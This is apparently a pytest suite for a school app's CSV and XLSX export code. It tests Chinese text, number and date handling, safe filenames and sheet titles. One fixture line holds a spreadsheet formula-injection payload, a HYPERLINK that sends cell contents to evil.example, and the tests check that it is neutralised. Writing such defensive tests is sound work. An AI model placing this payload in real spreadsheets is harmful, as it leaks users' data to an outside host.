"""CSV and XLSX downloads of an ExportTable: read back with csv and openpyxl.

Chinese must survive both (with a byte-order mark on the CSV for Excel), text that a spreadsheet would run as a
formula must not run, and numbers and dates must stay numbers and dates.
"""

import csv
import datetime
import io
from decimal import Decimal
from urllib.parse import unquote

import pytest
from django.http import Http404
from django.test import override_settings
from openpyxl import load_workbook

from themes.exports import (
    EXPORT_FORMATS,
    ExportTable,
    content_disposition,
    export_filename,
    export_formats,
    export_response,
    sheet_title,
)

INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
HEADERS = ["学生", "Score", "Change", "Date", "Note"]
ROWS = [
    ["王小明", 3, Decimal("-1.5"), datetime.date(2024, 9, 1), INJECTION],
    ['Ann, "the" first\nline two', 2.75, -3, datetime.date(2025, 1, 31), "+1 more"],
    ["欧阳娜娜", None, Decimal("0.10"), None, "-negative text"],
    ["@mention", 0, 0.0, None, "\tTabbed"],
]


def _table(rows=None, *, title="班级 2024 attainment"):
    return ExportTable(title=title, headers=HEADERS, rows=rows if rows is not None else [list(r) for r in ROWS])


def _csv_rows(response):
    content = response.content
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _sheet(response):
    workbook = load_workbook(io.BytesIO(response.content))
    return workbook.worksheets[0]


# ---------------------------------------------------------------------------------------------- CSV


def test_csv_round_trips_text_numbers_and_dates():
    response = export_response(_table(), file_format="csv", filename="班级 2024.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = _csv_rows(response)
    assert rows[0] == HEADERS
    assert rows[1][:4] == ["王小明", "3", "-1.5", "2024-09-01"]
    assert rows[2][:4] == ['Ann, "the" first\nline two', "2.75", "-3", "2025-01-31"]
    assert rows[3][:4] == ["欧阳娜娜", "", "0.10", ""]
    assert len(rows) == 5


def test_csv_is_rfc_4180():
    content = export_response(_table(), file_format="csv", filename="t.csv").content.decode("utf-8-sig")
    assert content.startswith("学生,Score,Change,Date,Note\r\n")
    assert '"Ann, ""the"" first\nline two"' in content
    assert content.endswith("\r\n")


def test_csv_neutralises_formulas_but_keeps_negative_numbers():
    rows = _csv_rows(export_response(_table(), file_format="csv", filename="t.csv"))
    assert rows[1][4] == "'" + INJECTION
    assert rows[2][4] == "'+1 more"
    assert rows[3][4] == "'-negative text"
    assert rows[4][0] == "'@mention"
    assert rows[4][4] == "'\tTabbed"
    assert rows[1][2] == "-1.5" and rows[2][2] == "-3"  # numbers are never prefixed


def test_csv_neutralises_headers_and_carriage_returns_too():
    table = ExportTable(title="t", headers=["=1+1", "ok"], rows=[["\rcmd", "a=b"]])
    rows = _csv_rows(export_response(table, file_format="csv", filename="t.csv"))
    assert rows[0] == ["'=1+1", "ok"]
    assert rows[1] == ["'\rcmd", "a=b"]  # "=" inside the text is harmless


@override_settings(USE_TZ=True, TIME_ZONE="Asia/Shanghai")
def test_datetimes_are_written_in_local_time():
    moment = datetime.datetime(2024, 9, 1, 1, 30, tzinfo=datetime.UTC)
    table = ExportTable(title="t", headers=["When"], rows=[[moment]])
    rows = _csv_rows(export_response(table, file_format="csv", filename="t.csv"))
    assert rows[1] == ["2024-09-01 09:30:00"]
    cell = _sheet(export_response(table, file_format="xlsx", filename="t.xlsx"))["A2"]
    assert cell.is_date
    assert cell.value == datetime.datetime(2024, 9, 1, 9, 30)


# ---------------------------------------------------------------------------------------------- filenames


def test_a_chinese_filename_has_an_rfc_5987_name_and_an_ascii_fallback():
    response = export_response(_table(), file_format="csv", filename="班级 2024.csv")
    header = response["Content-Disposition"]
    assert header == "attachment; filename=\"2024.csv\"; filename*=UTF-8''%E7%8F%AD%E7%BA%A7%202024.csv"
    encoded = header.split("filename*=UTF-8''", 1)[1]
    assert unquote(encoded) == "班级 2024.csv"
    header.encode("ascii")  # the header itself is plain ASCII


def test_ascii_filenames_need_no_encoded_form():
    assert content_disposition("class-7a-distribution.csv", "csv") == (
        'attachment; filename="class-7a-distribution.csv"'
    )


@pytest.mark.parametrize(
    ("name", "file_format", "expected"),
    [
        ("report", "xlsx", "report.xlsx"),
        ("report.csv", "xlsx", "report.xlsx"),
        ("report.XLSX", "xlsx", "report.xlsx"),
        ("../../etc/passwd", "csv", "etc_passwd.csv"),
        ('a"b\r\nc', "csv", "a_b_c.csv"),
        ("", "csv", "export.csv"),
        ("高一（3）班 分布.csv", "csv", "高一（3）班 分布.csv"),
    ],
)
def test_export_filenames_are_safe_and_end_in_the_format(name, file_format, expected):
    assert export_filename(name, file_format) == expected


def test_a_name_with_no_ascii_letters_falls_back_to_export():
    header = content_disposition("分布.xlsx", "xlsx")
    assert header.startswith("attachment; filename=\"export.xlsx\"; filename*=UTF-8''")


# ---------------------------------------------------------------------------------------------- XLSX


def test_xlsx_round_trips_with_a_bold_frozen_header():
    response = export_response(_table(), file_format="xlsx", filename="班级 2024.xlsx")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert unquote(response["Content-Disposition"].split("''", 1)[1]) == "班级 2024.xlsx"
    sheet = _sheet(response)
    assert sheet.title == "班级 2024 attainment"
    assert sheet.freeze_panes == "A2"
    header = next(sheet.iter_rows(min_row=1, max_row=1))
    assert [cell.value for cell in header] == HEADERS
    assert all(cell.font.b for cell in header)
    assert sheet.max_row == 5


def test_xlsx_keeps_numbers_as_numbers_and_dates_as_dates():
    sheet = _sheet(export_response(_table(), file_format="xlsx", filename="t.xlsx"))
    assert sheet["A2"].value == "王小明"
    assert sheet["B2"].value == 3 and sheet["B2"].data_type == "n"
    assert sheet["C2"].value == -1.5 and sheet["C2"].data_type == "n"  # Decimal("-1.5") stays a number
    assert sheet["C3"].value == -3 and sheet["C3"].data_type == "n"
    assert sheet["C4"].value == pytest.approx(0.1) and sheet["C4"].data_type == "n"
    assert sheet["D2"].is_date and sheet["D2"].value.date() == datetime.date(2024, 9, 1)
    assert sheet["D2"].number_format == "yyyy-mm-dd"
    assert sheet["B4"].value is None
    assert sheet["A3"].value == 'Ann, "the" first\nline two'


def test_xlsx_stores_formula_like_text_as_text():
    sheet = _sheet(export_response(_table(), file_format="xlsx", filename="t.xlsx"))
    injected = sheet["E2"]
    assert injected.value == INJECTION  # as typed, no quote added to the value
    assert injected.data_type == "s"  # a string, not a formula
    assert injected.quotePrefix  # and Excel keeps it text when the cell is edited
    for address in ("E3", "E4", "A5", "E5"):
        assert sheet[address].data_type == "s" and sheet[address].quotePrefix, address
    assert not sheet["A2"].quotePrefix


def test_xlsx_column_widths_count_chinese_characters_double():
    table = ExportTable(title="t", headers=["名字", "n"], rows=[["欧阳娜娜同学的名字特别长", 1]])
    sheet = _sheet(export_response(table, file_format="xlsx", filename="t.xlsx"))
    assert sheet.column_dimensions["A"].width >= 24  # 12 CJK characters
    assert 8 <= sheet.column_dimensions["B"].width < 12


def test_xlsx_reads_rows_from_a_generator_past_the_width_sample():
    rows = ([index, f"row {index}"] for index in range(450))
    table = ExportTable(title="Many", headers=["n", "text"], rows=rows)
    sheet = _sheet(export_response(table, file_format="xlsx", filename="t.xlsx"))
    assert sheet.max_row == 451
    assert sheet["A451"].value == 449 and sheet["B451"].value == "row 449"


def test_xlsx_drops_characters_a_workbook_cannot_hold():
    table = ExportTable(title="t", headers=["a"], rows=[["bell\x07 and null\x00"]])
    sheet = _sheet(export_response(table, file_format="xlsx", filename="t.xlsx"))
    assert sheet["A2"].value == "bell and null"


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Class [7A]: 2024/25 *final?", "Class 7A 2024 25 final"),
        (
            "一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十一二三",
            "一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十一",
        ),
        ("'quoted'", "quoted"),
        ("", "Sheet1"),
        ("History", "History 1"),
    ],
)
def test_sheet_titles_follow_excels_rules(title, expected):
    result = sheet_title(title)
    assert len(result) <= 31
    assert not set(result) & set("[]:*?/\\")
    assert result == expected


def test_the_sheet_title_is_cleaned_in_the_workbook():
    table = ExportTable(title="Class [7A]: 2024/25", headers=["a"], rows=[])
    sheet = _sheet(export_response(table, file_format="xlsx", filename="t.xlsx"))
    assert sheet.title == sheet_title("Class [7A]: 2024/25")
    assert sheet.max_row == 1


# ---------------------------------------------------------------------------------------------- formats


def test_formats_offered_and_an_unknown_one_is_not_found():
    assert list(EXPORT_FORMATS) == ["csv", "xlsx"]
    labels = export_formats()
    assert list(labels) == ["csv", "xlsx"] and all(isinstance(label, str) and label for label in labels.values())
    with pytest.raises(Http404):
        export_response(_table(), file_format="pdf", filename="t.pdf")
